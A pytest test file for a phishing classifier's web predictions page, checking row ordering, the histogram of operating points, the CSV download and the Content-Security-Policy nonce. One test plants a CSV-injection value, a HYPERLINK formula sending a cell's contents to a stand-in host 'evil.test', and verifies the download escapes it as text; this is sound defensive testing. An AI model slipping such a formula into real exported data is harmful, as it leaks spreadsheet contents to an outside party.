"""The analyst's predictions page over HTTP (in-process): the rows review first, the histogram of
P(phishing) with the operating points, the scored CSV to download, and the script policy."""

from __future__ import annotations

import base64
import io
import re
from copy import copy
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

from network_security.service.rendering import ACTION_ORDER, HISTOGRAM_BINS

JSON = {"Accept": "application/json"}
HTML = {"Accept": "text/html"}


class PageParts(HTMLParser):
    """The parts of the page the tests read: table rows, SVG elements, links, scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[dict] = []
        self.svg: list[tuple[str, dict]] = []
        self.links: dict[str, dict] = {}
        self.scripts: list[dict] = []
        self._in_body = self._in_cell = self._in_svg = False

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attributes = dict(attrs)
        if tag == "tbody":
            self._in_body = True
        elif tag == "tr" and self._in_body:
            self.rows.append({**attributes, "cells": []})
        elif tag == "td" and self._in_body:
            self._in_cell = True
            self.rows[-1]["cells"].append("")
        elif tag == "svg":
            self._in_svg = True
        elif tag == "a" and "id" in attributes:
            self.links[attributes["id"]] = attributes
        elif tag == "script":
            self.scripts.append(attributes)
        if self._in_svg:
            self.svg.append((tag, attributes))

    def handle_endtag(self, tag: str) -> None:
        self._in_body &= tag != "tbody"
        self._in_cell &= tag != "td"
        self._in_svg &= tag != "svg"

    def handle_data(self, data: str) -> None:
        if self._in_cell:
            self.rows[-1]["cells"][-1] += data
        elif self._in_svg and data.strip():
            self.svg.append(("#text", {"text": data.strip()}))


def parts_of(page: str) -> PageParts:
    parser = PageParts()
    parser.feed(page)
    return parser


@pytest.fixture
def points(champion, batch) -> dict:
    """Operating points between the batch's P(phishing) terciles: every action occurs."""
    probability = champion.phishing_probability(batch)
    low, high = np.quantile(probability, [0.3, 0.7])
    return {"allow_below": float(low), "block_above": float(high), "expected_review_share": 0.4}


@pytest.fixture
def points_client(make_client, write_champion, champion, points, tmp_path):
    model = copy(champion)
    model.operating_points = dict(points, max_missed_phishing=0.01, max_false_block=0.01)
    model.version = "test-page-1"
    path = tmp_path / "champion.pkl"
    write_champion(model, path)
    return make_client(model_path=path)


def post(client, frame: pd.DataFrame, headers: dict):
    data = frame.to_csv(index=False).encode("utf-8")
    response = client.post(
        "/predict", files={"file": ("batch.csv", data, "text/csv")}, headers=headers
    )
    assert response.status_code == 200, response.text
    return response


def test_rows_come_review_first_then_block_then_allow_by_probability(points_client, batch):
    text = post(points_client, batch, HTML).text
    page = parts_of(text)
    probability_at = re.findall(r"<th>([^<]*)</th>", text).index("phishing_probability")
    rows = page.rows
    assert len(rows) == len(batch) == 25
    actions = [row["data-action"] for row in rows]
    assert set(actions) == set(ACTION_ORDER)
    ranks = [ACTION_ORDER.index(action) for action in actions]
    assert ranks == sorted(ranks)  # review, then block, then allow
    for action in ACTION_ORDER:
        shown = [float(r["cells"][probability_at]) for r in rows if r["data-action"] == action]
        assert shown == sorted(shown, reverse=True), action
    # the first cell is the row's place in the upload: it still names the uploaded URL
    assert [batch["url"][int(r["cells"][0]) - 1] for r in rows] == [r["cells"][1] for r in rows]
    assert sorted(int(r["cells"][0]) for r in rows) == list(range(1, 26))


def test_histogram_counts_every_row_and_draws_both_operating_points(points_client, batch, points):
    probability = [
        p["phishing_probability"] for p in post(points_client, batch, JSON).json()["predictions"]
    ]
    svg = parts_of(post(points_client, batch, HTML).text).svg
    assert svg[0][0] == "svg" and svg[0][1]["id"] == "histogram"
    counts = [int(a["data-count"]) for tag, a in svg if tag == "rect" and a.get("class") == "bin"]
    assert len(counts) == HISTOGRAM_BINS
    assert counts == np.histogram(probability, bins=HISTOGRAM_BINS, range=(0, 1))[0].tolist()
    lines = {a["data-point"]: a for tag, a in svg if tag == "line" and "data-point" in a}
    assert set(lines) == {"allow_below", "block_above"}
    assert float(lines["allow_below"]["x1"]) < float(lines["block_above"]["x1"])
    texts = [a["text"] for tag, a in svg if tag == "#text"]
    assert f"allow below {points['allow_below']:.4f}" in texts
    assert f"block above {points['block_above']:.4f}" in texts


def test_download_link_holds_every_scored_row_formula_safe(points_client, batch):
    hostile = batch.copy()
    hostile.loc[3, "url"] = '=HYPERLINK("http://evil.test/?"&A2,"open")'
    expected = pd.DataFrame(post(points_client, hostile, JSON).json()["predictions"])
    link = parts_of(post(points_client, hostile, HTML).text).links["download-csv"]
    assert link["download"] == "batch-predictions.csv"
    prefix = "data:text/csv;charset=utf-8;base64,"
    assert link["href"].startswith(prefix)
    text = base64.b64decode(link["href"][len(prefix) :]).decode("utf-8")
    assert "\r\n" in text  # the line end of the project's CSVs
    downloaded = pd.read_csv(io.StringIO(text))
    assert len(downloaded) == len(batch)
    assert list(downloaded.columns) == list(expected.columns)  # the pipeline's columns
    assert downloaded["url"][3] == "'" + hostile["url"][3]  # shown as text, never run
    expected.loc[3, "url"] = downloaded["url"][3]
    pd.testing.assert_frame_equal(downloaded, expected, check_dtype=False)


def test_the_filter_script_runs_by_nonce_and_nothing_else_may(points_client, batch):
    first, second = post(points_client, batch, HTML), post(points_client, batch, HTML)
    policy = first.headers["content-security-policy"]
    nonce = re.search(r"script-src 'nonce-([A-Za-z0-9_-]+)'", policy).group(1)
    assert "unsafe-eval" not in policy and "script-src 'unsafe-inline'" not in policy
    assert "default-src 'none'" in policy
    assert parts_of(first.text).scripts == [{"nonce": nonce}]
    assert second.headers["content-security-policy"] != policy  # a new nonce per page
    checkboxes = re.findall(
        r'<input type="checkbox" name="action" value="(\w+)" checked>', first.text
    )
    assert checkboxes == list(ACTION_ORDER)
